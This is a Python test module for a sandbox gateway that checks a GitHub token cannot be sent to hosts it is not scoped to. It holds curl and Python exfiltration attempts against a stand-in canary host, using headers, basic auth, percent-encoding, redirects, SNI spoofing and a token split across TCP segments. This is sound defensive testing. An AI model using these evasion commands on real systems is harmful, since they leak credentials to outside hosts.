"""Attempts to send a secret's value to a host it is not scoped to.

One sandbox serves the module. Its GITHUB_TOKEN has the test world's token
as its value and is scoped to four hosts. github.com is the git server and
echo.test the recording server. api.github.com is mapped here to the
``wrong_name`` server, whose certificate names only other.test, and
raw.githubusercontent.com to the ``untrusted`` server, whose certificate
comes from a CA that the gateway does not trust. canary.test is the canary,
which records every byte it receives.

Every test checks that no canary recording contains the real value and that
no output of the sandbox's processes contains it.
"""

from __future__ import annotations

import asyncio
import ipaddress
import os
from collections.abc import Iterator
from typing import Any
from pathlib import Path

import pytest

from sealbox import Action, ExecOutput, Network, NetworkPolicy, Rule, Sandbox, SandboxNotFoundError, Secret
from sealbox.gateway.audit import read_events
from sealbox.testworld.recording import Recording
from sealbox.testworld.world import RecordingServer, TestWorld

world_network = TestWorld.sandbox_network

BLOCKED_REASON = "sealbox blocked this request: it carries the placeholder of secret GITHUB_TOKEN, "
# Trusts both the sandbox's CA (intercepted hosts) and the test world's CA (canary.test, passed through).
BOTH_CAS = "/tmp/both-cas.pem"
CURL = "curl -sS --http1.1 --max-time 20"
FAKE_RANGE = ipaddress.ip_network("198.18.0.0/15")

# Sends a request to canary.test:80 in two TCP segments, cut inside the
# placeholder, and prints what comes back until the gateway closes.
SPLIT_SENDER = r'''
import os, socket, sys, time
marker, placeholder = sys.argv[1], os.environ["GITHUB_TOKEN"]
request = ("GET /%s HTTP/1.1\r\nHost: canary.test\r\nX-Token: %s\r\n\r\n" % (marker, placeholder)).encode()
cut = request.index(placeholder.encode()) + len(placeholder) // 2
sock = socket.create_connection(("canary.test", 80), timeout=30)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
sock.sendall(request[:cut])
time.sleep(0.3)
sock.sendall(request[cut:])
received = b""
while data := sock.recv(65536):
    received += data
sys.stdout.write(received.decode("latin-1"))
'''


def shell(sandbox: Sandbox, script: str, **options: object) -> ExecOutput:
    return asyncio.run(sandbox.shell(script, timeout=120, **options))


def output_text(output: ExecOutput) -> str:
    return output.stdout_text + output.stderr_text


def recordings_with(world: TestWorld, server: RecordingServer, data: bytes) -> list[Recording]:
    return [recording for recording in world.recordings(server) if data in recording.received]


def canary_recordings_with(world: TestWorld, data: bytes) -> list[Recording]:
    return recordings_with(world, "canary", data) + recordings_with(world, "canary_plain", data)


def new_marker() -> str:
    return os.urandom(8).hex()


def audit_events(sandbox: Sandbox, event: str) -> list[dict[str, Any]]:
    return [item for item in read_events(Path(sandbox.audit_path)) if item["event"] == event]


def blocked(sandbox: Sandbox, path: str) -> list[tuple[str, str, str]]:
    """Return (secret, host, action) of each violation audited for requests to path."""
    return [(item["secret"], item["host"], item["action"]) for item in audit_events(sandbox, "violation")
            if item.get("path") == path]


@pytest.fixture(autouse=True)
def no_leftovers() -> Iterator[None]:
    """Replace the suite's per-test leak check, which counts the module's live sandbox as a leak.

    The ``box`` fixture removes that sandbox and checks that it is gone.
    """
    yield


@pytest.fixture(scope="module")
def box(testworld: TestWorld) -> Iterator[Sandbox]:
    secret = Secret.env("GITHUB_TOKEN", value=testworld.token,
                        allow_hosts=["github.com", "echo.test", "api.github.com", "raw.githubusercontent.com"])
    overrides = {"api.github.com:443": testworld.wrong_name.addr,
                 "raw.githubusercontent.com:443": testworld.untrusted.addr}
    sandbox = asyncio.run(Sandbox.create(
        "secrets-exfil", network=world_network(testworld, overrides), secrets=[secret],
        upstream_ca=[str(testworld.ca.cert_path)],
    ))
    try:
        world_ca = testworld.ca.cert_path.read_bytes()
        setup = shell(sandbox, f"cat /etc/sealbox/ca-bundle.crt - > {BOTH_CAS}", stdin=world_ca)
        assert setup.exit_code == 0, setup.stderr_text
        yield sandbox
    finally:
        asyncio.run(sandbox.remove())
        with pytest.raises(SandboxNotFoundError):
            asyncio.run(Sandbox.get("secrets-exfil"))


@pytest.fixture
def token(testworld: TestWorld) -> bytes:
    return testworld.token.encode()


@pytest.fixture
def placeholder(box: Sandbox) -> bytes:
    return box.placeholders["GITHUB_TOKEN"].encode()


def test_tls_to_canary_passes_placeholder(box: Sandbox, testworld: TestWorld, token: bytes,
                                          placeholder: bytes) -> None:
    marker = new_marker()

    output = shell(box, f'{CURL} --cacert {BOTH_CAS} -H "X-Token: $GITHUB_TOKEN" "https://canary.test/{marker}"')

    assert output.stdout_text == "ok", output.stderr_text
    [recording] = recordings_with(testworld, "canary", marker.encode())
    assert b"\r\nX-Token: " + placeholder + b"\r\n" in recording.received
    assert [item for item in audit_events(box, "intercept") if item["sni"] == "canary.test"] == []
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


def test_plain_http_to_canary_403(box: Sandbox, testworld: TestWorld, token: bytes) -> None:
    marker = new_marker()

    output = shell(box, f'{CURL} -w "\\n%{{http_code}}" -H "X-Token: $GITHUB_TOKEN" "http://canary.test/{marker}"')

    body, status = output.stdout_text.rsplit("\n", 1)
    assert status == "403"
    assert body == BLOCKED_REASON + "which is not allowed for host canary.test\n"
    assert blocked(box, f"/{marker}") == [("GITHUB_TOKEN", "canary.test", "block")]
    assert canary_recordings_with(testworld, marker.encode()) == []
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


def test_host_header_mismatch_421(box: Sandbox, testworld: TestWorld, token: bytes) -> None:
    marker = new_marker()
    script = (f"{CURL} -w '\\n%{{http_code}}' -H 'Host: canary.test' -H \"X-Token: $GITHUB_TOKEN\" "
              f'"https://github.com/?m={marker}"')

    output = shell(box, script)

    assert output.stdout_text.rsplit("\n", 1)[1] == "421"
    assert canary_recordings_with(testworld, marker.encode()) == []
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


def test_canary_address_with_github_sni(box: Sandbox, testworld: TestWorld, token: bytes) -> None:
    # The sandbox dials the address that DNS gave it for canary.test, but names
    # github.com in the TLS handshake: the gateway dials github.com by name.
    marker = new_marker()
    script = (
        "set -e; address=$(python3 -c \"import socket; print(socket.gethostbyname('canary.test'))\"); "
        'echo "$address"; '
        f"{CURL} -o /dev/null -w '%{{http_code}} %{{content_type}}' --resolve \"github.com:443:$address\" "
        f'-H "X-Token: $GITHUB_TOKEN" "https://github.com/org/public.git/info/refs?service=git-upload-pack&m={marker}"'
    )

    output = shell(box, script)

    address, response = output.stdout_text.split("\n", 1)
    assert ipaddress.ip_address(address) in FAKE_RANGE
    assert response == "200 application/x-git-upload-pack-advertisement", output.stderr_text
    assert canary_recordings_with(testworld, marker.encode()) == []
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


@pytest.mark.parametrize(("host", "server", "reason"), [
    ("api.github.com", "wrong_name", "Hostname mismatch, certificate is not valid for 'api.github.com'."),
    ("raw.githubusercontent.com", "untrusted", "unable to get local issuer certificate"),
])
def test_unverified_upstream_502(box: Sandbox, testworld: TestWorld, token: bytes, host: str,
                                 server: RecordingServer, reason: str) -> None:
    before = {recording.connection_id for recording in testworld.recordings(server)}

    output = shell(box, f'{CURL} -w "\\n%{{http_code}}" -H "Authorization: Bearer $GITHUB_TOKEN" "https://{host}/"')

    body, status = output.stdout_text.rsplit("\n", 1)
    assert status == "502", output.stderr_text
    assert body == f"sealbox gateway: TLS to {host} failed: certificate verification failed: {reason}\n"
    new = [recording for recording in testworld.recordings(server) if recording.connection_id not in before]
    assert [recording.received for recording in new] == [b""] * len(new)
    assert testworld.token not in output_text(output)


def test_redirect_to_canary_keeps_placeholder(box: Sandbox, testworld: TestWorld, token: bytes,
                                              placeholder: bytes) -> None:
    marker = new_marker()
    target = f"https%3A%2F%2Fcanary.test%2F{marker}"

    output = shell(box, f'{CURL} -L --cacert {BOTH_CAS} -H "X-Token: $GITHUB_TOKEN" '
                        f'"https://echo.test/redirect?to={target}"')

    assert output.stdout_text == "ok", output.stderr_text
    [first_hop] = recordings_with(testworld, "https", marker.encode())
    assert b"\r\nX-Token: " + token + b"\r\n" in first_hop.received
    [second_hop] = recordings_with(testworld, "canary", marker.encode())
    assert b"\r\nX-Token: " + placeholder + b"\r\n" in second_hop.received
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


def test_split_placeholder_plain_http_403(box: Sandbox, testworld: TestWorld, token: bytes) -> None:
    marker = new_marker()

    output = asyncio.run(box.exec("python3", ["-c", SPLIT_SENDER, marker], timeout=60))

    assert output.stdout_text.startswith("HTTP/1.1 403 "), output_text(output)
    assert output.stdout_text.endswith(BLOCKED_REASON + "which is not allowed for host canary.test\n")
    assert blocked(box, f"/{marker}") == [("GITHUB_TOKEN", "canary.test", "block")]
    assert canary_recordings_with(testworld, marker.encode()) == []
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


def test_percent_encoded_placeholder_403(box: Sandbox, testworld: TestWorld, token: bytes,
                                         placeholder: bytes) -> None:
    marker = new_marker()
    encoded = "".join(f"%{byte:02x}" for byte in placeholder)

    output = shell(box, f'{CURL} -w "\\n%{{http_code}}" "http://canary.test/{marker}?t={encoded}"')

    body, status = output.stdout_text.rsplit("\n", 1)
    assert status == "403"
    assert body == BLOCKED_REASON + "which is not allowed for host canary.test\n"
    assert blocked(box, f"/{marker}") == [("GITHUB_TOKEN", "canary.test", "block")]
    assert canary_recordings_with(testworld, marker.encode()) == []
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


def test_basic_auth_placeholder_403(box: Sandbox, testworld: TestWorld, token: bytes) -> None:
    marker = new_marker()

    output = shell(box, f'{CURL} -w "\\n%{{http_code}}" -u "x-access-token:$GITHUB_TOKEN" '
                        f'"http://canary.test/{marker}"')

    body, status = output.stdout_text.rsplit("\n", 1)
    assert status == "403"
    assert body == BLOCKED_REASON + "which is not allowed for host canary.test\n"
    assert blocked(box, f"/{marker}") == [("GITHUB_TOKEN", "canary.test", "block")]
    assert canary_recordings_with(testworld, marker.encode()) == []
    assert canary_recordings_with(testworld, token) == []
    assert testworld.token not in output_text(output)


def test_audit_log_has_no_value(box: Sandbox, testworld: TestWorld) -> None:
    assert testworld.token not in Path(box.audit_path).read_text()
